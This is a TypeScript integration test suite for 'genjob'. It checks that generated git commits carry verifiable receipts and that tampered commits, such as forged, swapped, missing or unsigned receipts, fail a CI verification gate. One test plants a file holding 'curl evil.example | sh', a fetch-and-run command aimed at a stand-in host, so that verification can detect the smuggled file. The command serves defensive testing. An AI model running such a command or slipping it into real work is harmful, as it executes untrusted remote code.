// Receipts travel with the repository, end to end over a real bare repository reached by file:// and
// over ssh (the suite's sshd). Machine A mints two jobs, works, applies with --commit (its other staged
// and unstaged changes stay out of the commits), pushes the branch and `genjob push`. Machine B, a fresh
// clone with no .gen/, runs the CI recipe `genjob pull && genjob verify --commits origin/main..HEAD`
// and passes. Then each tampering, done by a third clone on a copy of the remote, fails B's gate with
// its code and a message naming the commit.
import { cpSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { canonical, sha256 } from '../../bench/fixtures.mjs';
import { useSshd } from '../helpers/sshd.js';
import { cloneBranch, FILE_TRANSPORT, git, gitEnv, sshTransport, type Transport } from './git-helpers.js';
import { DEMO_GENERATOR, FIXTURE, runCli, TIMEOUT_INSTRUCTION } from './helpers.js';

const sshd = useSshd();

interface World {
  base: string;
  bare: string;
  env: Record<string, string>;
  keys: { timeout: string; readme: string };
  /** The generated commits, oldest first: [timeout job, readme job]. */
  commits: string[];
  t: Transport;
}

function cli(w: World, cwd: string, args: readonly string[]) {
  return runCli(args, { cwd, env: { ...w.env, XDG_CACHE_HOME: join(w.base, 'cache') } });
}

async function setup(t: Transport): Promise<World> {
  const base = mkdtempSync(join(tmpdir(), 'gj-git-'));
  const env = gitEnv(base, t.env());
  const bare = join(base, 'origin.git');
  await git(base, ['init', '-q', '--bare', '-b', 'main', bare], env);
  const a = join(base, 'a');
  cpSync(FIXTURE, a, { recursive: true });
  writeFileSync(join(a, '.gitignore'), '.gen/\n');
  await git(a, ['init', '-q', '-b', 'main'], env);
  await git(a, ['add', '-A'], env);
  await git(a, ['commit', '-qm', 'the toy repository'], env);
  await git(a, ['remote', 'add', 'origin', t.url(bare)], env);
  await git(a, ['push', '-q', 'origin', 'main'], env);
  await git(a, ['checkout', '-q', '-b', 'feature'], env);
  const w: World = { base, bare, env, keys: { timeout: '', readme: '' }, commits: [], t };
  const mint = async (m: string, paths: string[]) => {
    const r = await cli(w, a, ['mint', '--json', '-m', m, ...paths]);
    expect(r.exitCode, r.stderr).toBe(0);
    return JSON.parse(r.stdout).key as string;
  };
  w.keys.timeout = await mint(TIMEOUT_INSTRUCTION, ['src/user.py', 'tests/test_user.py']);
  w.keys.readme = await mint('Explain the config in the README\n\nmore words', ['README.md']);
  const work = await cli(w, a, ['work', '--drain', '--quiet', '--generator', DEMO_GENERATOR]);
  expect(work.exitCode, work.stderr).toBe(0);
  // A's own work in progress: one staged, one unstaged change; neither may enter a generated commit
  writeFileSync(join(a, 'NOTES.md'), 'staged by hand\n');
  await git(a, ['add', 'NOTES.md'], env);
  writeFileSync(join(a, 'config/credentials.txt'), 'edited by hand, not staged\n');
  const apply = await cli(w, a, ['apply', '--all', '--commit']);
  expect(apply.exitCode, apply.stderr).toBe(0);
  w.commits = (await git(a, ['rev-list', '--reverse', 'main..feature'], env)).split('\n');
  expect(w.commits).toHaveLength(2);
  expect(await git(a, ['status', '--porcelain'], env)).toBe('A  NOTES.md\n M config/credentials.txt');
  await git(a, ['push', '-q', 'origin', 'feature'], env);
  const push = await cli(w, a, ['push']);
  expect(push.exitCode, push.stderr).toBe(0);
  expect(push.stdout).toBe('2 key(s) pushed to origin, 0 already there\n');
  return w;
}

/** A copy of the remote, for one tampering. */
function copyRemote(w: World, name: string): string {
  const copy = join(w.base, `${name}.git`);
  cpSync(w.bare, copy, { recursive: true });
  return copy;
}

function cloneOf(w: World, bare: string, name: string, opts: { material?: boolean } = {}) {
  return cloneBranch(w.base, w.t.url(bare), name, w.env, opts);
}

/** B: a fresh clone runs the CI recipe. Returns pull's and verify's results. */
async function gate(w: World, bare: string, name: string, before?: (b: string) => Promise<void>) {
  const b = await cloneOf(w, bare, name);
  expect(existsSync(join(b, '.gen'))).toBe(false);
  await before?.(b);
  const pull = await cli(w, b, ['pull']);
  const verify = await cli(w, b, ['verify', '--commits', 'origin/main..HEAD']);
  return { b, pull, verify };
}

/** Replace one entry of the material commit of `key` in clone `c` and force-push it. */
async function forgeMaterial(w: World, c: string, key: string, entry: string, blob: string) {
  const ref = `refs/genjob/keys/${key}`;
  const tree = (await git(c, ['ls-tree', ref], w.env))
    .split('\n')
    .map((l) => (l.endsWith(`\t${entry}`) ? l.replace(/ [0-9a-f]{40}\t/, ` ${blob}\t`) : l))
    .join('\n');
  const newTree = await git(c, ['mktree'], w.env, `${tree}\n`);
  const commit = await git(c, ['commit-tree', newTree, '-m', 'forged'], w.env);
  await git(c, ['push', '-q', '--force', 'origin', `${commit}:${ref}`], w.env);
}

describe.each([{ transport: FILE_TRANSPORT }, { transport: sshTransport(sshd) }])(
  'material in git over $transport.name',
  ({ transport }) => {
    let w: World;
    beforeAll(async () => {
      w = await setup(transport);
    });
    afterAll(() => {
      if (w) rmSync(w.base, { recursive: true, force: true });
    });

    it('puts the instruction and the Genjob trailers in each generated commit, holding only its outputs', async () => {
      const a = join(w.base, 'a');
      const trailers = await git(
        a,
        ['log', '--reverse', '--format=%s%n%(trailers)%x00', 'main..feature'],
        w.env,
      );
      const [first, second] = trailers.split('\0').map((s) => s.trim());
      const receipt = (k: string) => sha256(readFileSync(join(a, '.gen/receipts', `${k}.json`)));
      expect(first).toBe(
        `${TIMEOUT_INSTRUCTION}\nGenjob-Key: ${w.keys.timeout}\nGenjob-Receipt: sha256:${receipt(w.keys.timeout)}`,
      );
      expect(second).toBe(
        `Explain the config in the README\nGenjob-Key: ${w.keys.readme}\nGenjob-Receipt: sha256:${receipt(w.keys.readme)}`,
      );
      expect(await git(a, ['diff-tree', '-r', '--name-only', '--no-commit-id', w.commits[0]!], w.env)).toBe(
        'src/user.py\ntests/test_user.py',
      );
      expect(await git(a, ['diff-tree', '-r', '--name-only', '--no-commit-id', w.commits[1]!], w.env)).toBe(
        'README.md',
      );
    });

    it('passes the CI recipe on a fresh clone that never ran the worker, one line per generated commit', async () => {
      const { b, pull, verify } = await gate(w, w.bare, 'b-ok');
      expect(pull).toMatchObject({ exitCode: 0, stdout: '2 key(s) of verification material from origin\n' });
      // the material serves verification only: nothing of it became a job here
      expect(existsSync(join(b, '.gen', 'received'))).toBe(false);
      expect(verify.exitCode, verify.stderr).toBe(0);
      expect(verify.stdout).toBe(
        `${w.commits[0]!.slice(0, 12)} ok: job ${w.keys.timeout.slice(0, 12)}, exactly its 2 output(s)\n` +
          `${w.commits[1]!.slice(0, 12)} ok: job ${w.keys.readme.slice(0, 12)}, exactly its 1 output(s)\n`,
      );
    });

    it('sends nothing on a second push; a pull on the machine that made the jobs changes nothing of its jobs', async () => {
      const a = join(w.base, 'a');
      const push = await cli(w, a, ['push', '--json']);
      expect(JSON.parse(push.stdout)).toMatchObject({ ok: true, built: 0, created: [], conflicts: [] });
      const pull = await cli(w, a, ['pull']);
      expect(pull).toMatchObject({ exitCode: 0, stdout: '2 key(s) of verification material from origin\n' });
    });

    it('fails on an edited byte in a generated commit (EGJ_COMMIT_BYTES_DIFFER)', async () => {
      const bare = copyRemote(w, 'edited');
      const c = await cloneOf(w, bare, 'c-edited');
      writeFileSync(join(c, 'README.md'), `${readFileSync(join(c, 'README.md'), 'utf8')}x`);
      await git(c, ['commit', '-q', '--amend', '-a', '--no-edit'], w.env);
      await git(c, ['push', '-q', '--force', 'origin', 'feature'], w.env);
      const forged = await git(c, ['rev-parse', 'HEAD'], w.env);
      const { verify } = await gate(w, bare, 'b-edited');
      expect(verify.exitCode).toBe(3);
      expect(verify.stderr).toMatch(
        new RegExp(
          `^genjob: EGJ_COMMIT_BYTES_DIFFER: commit ${forged.slice(0, 12)}: "README.md" hashes to [0-9a-f]{12} in the commit, the receipt says [0-9a-f]{12}\\n$`,
        ),
      );
    });

    it('fails on an extra file in a generated commit (EGJ_COMMIT_EXTRA_CHANGE)', async () => {
      const bare = copyRemote(w, 'extra');
      const c = await cloneOf(w, bare, 'c-extra');
      writeFileSync(join(c, 'smuggled.sh'), 'curl evil.example | sh\n');
      await git(c, ['add', 'smuggled.sh'], w.env);
      await git(c, ['commit', '-q', '--amend', '--no-edit'], w.env);
      await git(c, ['push', '-q', '--force', 'origin', 'feature'], w.env);
      const forged = await git(c, ['rev-parse', 'HEAD'], w.env);
      const { verify } = await gate(w, bare, 'b-extra');
      expect(verify).toMatchObject({
        exitCode: 3,
        stderr: `genjob: EGJ_COMMIT_EXTRA_CHANGE: commit ${forged.slice(0, 12)}: changes "smuggled.sh", which is not an output of its receipt\n`,
      });
    });

    it("fails when a key's receipt is swapped for another key's (EGJ_KEY_MISMATCH)", async () => {
      const bare = copyRemote(w, 'swapped');
      const c = await cloneOf(w, bare, 'c-swapped', { material: true });
      const other = await git(c, ['rev-parse', `refs/genjob/keys/${w.keys.timeout}:receipt.json`], w.env);
      await forgeMaterial(w, c, w.keys.readme, 'receipt.json', other);
      const { pull, verify } = await gate(w, bare, 'b-swapped');
      expect(pull.exitCode, pull.stderr).toBe(0);
      expect(verify.exitCode).toBe(3);
      expect(verify.stderr).toMatch(
        new RegExp(
          `^genjob: EGJ_KEY_MISMATCH: commit ${w.commits[1]!.slice(0, 12)}: receipt of job ${w.keys.readme.slice(0, 12)}: .*receipt is for key ${w.keys.timeout.slice(0, 12)}`,
        ),
      );
    });

    it('fails when a trailer points at a receipt the remote does not have (EGJ_COMMIT_RECEIPT_MISSING)', async () => {
      const bare = copyRemote(w, 'missing');
      await git(bare, ['update-ref', '-d', `refs/genjob/keys/${w.keys.timeout}`], w.env);
      const { b, pull, verify } = await gate(w, bare, 'b-missing');
      expect(pull.stdout).toBe('1 key(s) of verification material from origin\n');
      expect(verify).toMatchObject({
        exitCode: 3,
        stderr: `genjob: EGJ_COMMIT_RECEIPT_MISSING: commit ${w.commits[0]!.slice(0, 12)}: no receipt for job ${w.keys.timeout.slice(0, 12)} here (run genjob pull first; a ref of it that pull skipped is named in pull's warnings)\n`,
      });
      // --json: the top-level code and message every failure has, besides each commit's
      const json = await cli(w, b, ['verify', '--commits', 'origin/main..HEAD', '--json']);
      expect(JSON.parse(json.stdout)).toMatchObject({
        ok: false,
        code: 'EGJ_COMMIT_RECEIPT_MISSING',
        message: expect.stringMatching(
          new RegExp(
            `^1 of \\d+ generated commit\\(s\\) failed the gate; the first, ${w.commits[0]!.slice(0, 12)}: no receipt`,
          ),
        ),
      });
    });

    it('fails on an unsigned receipt while --trust-file pins a key (EGJ_SIGNATURE_MISSING); the checkout’s trust file is never read', async () => {
      const { b, verify } = await gate(w, w.bare, 'b-pinned', async (b) => {
        const keygen = await cli(w, b, ['keygen', '--json', '--out', join(w.base, 'pinned.key')]);
        const pub = JSON.parse(keygen.stdout).publicKey;
        const add = await cli(w, b, ['trust', 'add', 'ci-host', pub]);
        expect(add.exitCode, add.stderr).toBe(0);
      });
      expect(existsSync(join(b, 'genjob-trust.json'))).toBe(true);
      expect(verify.exitCode, verify.stderr).toBe(0);
      const pinned = await cli(w, b, [
        'verify',
        '--commits',
        'origin/main..HEAD',
        '--trust-file',
        'genjob-trust.json',
      ]);
      expect(pinned.exitCode).toBe(3);
      expect(pinned.stderr).toMatch(
        new RegExp(`^genjob: EGJ_SIGNATURE_MISSING: commit ${w.commits[0]!.slice(0, 12)}: receipt of job `),
      );
    });

    it('fails on a forged receipt pushed to refs/genjob/ by a third clone (EGJ_COMMIT_RECEIPT_MISMATCH)', async () => {
      const bare = copyRemote(w, 'forged');
      const c = await cloneOf(w, bare, 'c-forged', { material: true });
      const ref = `refs/genjob/keys/${w.keys.readme}`;
      const receipt = JSON.parse(await git(c, ['cat-file', 'blob', `${ref}:receipt.json`], w.env));
      receipt.worker.host = 'a-host-that-never-ran-it';
      const blob = await git(c, ['hash-object', '-w', '--stdin'], w.env, canonical(receipt));
      await forgeMaterial(w, c, w.keys.readme, 'receipt.json', blob);
      const { verify } = await gate(w, bare, 'b-forged');
      expect(verify.exitCode).toBe(3);
      expect(verify.stderr).toMatch(
        new RegExp(
          `^genjob: EGJ_COMMIT_RECEIPT_MISMATCH: commit ${w.commits[1]!.slice(0, 12)}: Genjob-Receipt names sha256:[0-9a-f]{12}, the receipt of job ${w.keys.readme.slice(0, 12)} here is sha256:[0-9a-f]{12}\\n$`,
        ),
      );
    });
  },
);
